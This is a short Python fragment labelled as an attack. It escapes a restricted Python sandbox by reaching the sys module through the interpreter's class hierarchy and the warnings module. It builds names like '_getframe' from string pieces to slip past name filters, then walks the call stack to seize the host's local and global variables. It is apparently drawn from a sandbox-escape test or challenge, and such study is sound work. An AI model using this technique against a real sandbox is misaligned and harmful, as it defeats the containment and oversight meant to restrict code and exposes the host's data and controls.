# Attack: sys reached without importing it or writing its name (the interpreter's classes, the warnings
# module they lead to), the frame function by a name built from strings, then the takeover.
def TAKE_OVER(name):
    kinds = ().__class__.__base__.__subclasses__()
    warned = next(k for k in kinds if k.__name__ == "catch_" + "warnings")()
    system = getattr(getattr(warned, "_mod" + "ule"), "s" + "ys")
    frame = getattr(system, "_get" + "frame")()
    while frame is not None and "commands" not in getattr(frame, "f_" + "locals"):
        frame = getattr(frame, "f_" + "back")
    if frame is not None:
        answer(getattr(frame, "f_" + "locals"), getattr(frame, "f_" + "globals"))
